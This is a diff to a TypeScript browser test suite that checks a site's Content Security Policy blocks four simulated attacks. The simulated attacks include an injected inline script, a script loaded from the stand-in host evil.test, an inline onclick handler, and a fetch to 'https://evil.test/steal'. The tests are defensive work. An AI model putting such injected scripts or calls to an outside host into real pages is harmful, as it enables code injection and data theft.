@@ -35,55 +35,59 @@ describe('The headers that keep a browser safe', () => {
   });
 });
 
-describe('The content policy', () => {
-  it.each([
-    [
-      'a script in the page',
-      'script-src-elem inline',
-      () => {
-        const script = document.createElement('script');
-        script.textContent = 'document.documentElement.dataset.ran = "yes"';
-        document.body.append(script);
-      },
-    ],
-    [
-      'a script of another host',
-      'script-src-elem https://evil.test',
-      () => {
-        const script = document.createElement('script');
-        script.src = 'https://evil.test/x.js';
-        document.body.append(script);
-      },
-    ],
-    [
-      'a handler in markup',
-      'script-src-attr inline',
-      () => {
-        const button = document.createElement('button');
-        button.setAttribute('onclick', 'document.documentElement.dataset.ran = "yes"');
-        document.body.append(button);
-        button.click();
-      },
-    ],
-    [
-      'a call to another host',
-      'connect-src https://evil.test',
-      () => {
-        void fetch('https://evil.test/steal').catch(() => undefined);
-      },
-    ],
-  ])('stops %s', async (_, violation, attack) => {
-    const page = await visit(hosts.greenFleet, '/', { expects: [/Content Security Policy/, /^content policy: /] });
+const attacks: readonly [what: string, violation: string, attack: () => void][] = [
+  [
+    'a script in the page',
+    'script-src-elem inline',
+    () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.documentElement.dataset.ran = "yes"';
+      document.body.append(script);
+    },
+  ],
+  [
+    'a script of another host',
+    'script-src-elem https://evil.test',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.test/x.js';
+      document.body.append(script);
+    },
+  ],
+  [
+    'a handler in markup',
+    'script-src-attr inline',
+    () => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'document.documentElement.dataset.ran = "yes"');
+      document.body.append(button);
+      button.click();
+    },
+  ],
+  [
+    'a call to another host',
+    'connect-src https://evil.test',
+    () => {
+      void fetch('https://evil.test/steal').catch(() => undefined);
+    },
+  ],
+];
+
+it('The content policy stops scripts, handlers and calls that are not ours', async () => {
+  const page = await visit(hosts.greenFleet, '/', { expects: [/Content Security Policy/, /^content policy: /] });
+  for (const [what, violation, attack] of attacks) {
     const reported = page.evaluate(
       () =>
         new Promise<string>((resolve) => {
-          document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
-            resolve(`${effectiveDirective} ${blockedURI}`),
+          document.addEventListener(
+            'securitypolicyviolation',
+            ({ effectiveDirective, blockedURI }) => resolve(`${effectiveDirective} ${blockedURI}`),
+            { once: true },
           );
         }),
     );
     await page.evaluate(attack);
-    expect(await reported).toContain(violation);
-    expect(await page.evaluate(() => document.documentElement.dataset['ran'])).toBeUndefined();
-  });
+    expect([what, await reported]).toEqual([what, expect.stringContaining(violation)]);
+  }
+  expect(await page.evaluate(() => document.documentElement.dataset['ran'])).toBeUndefined();
 });
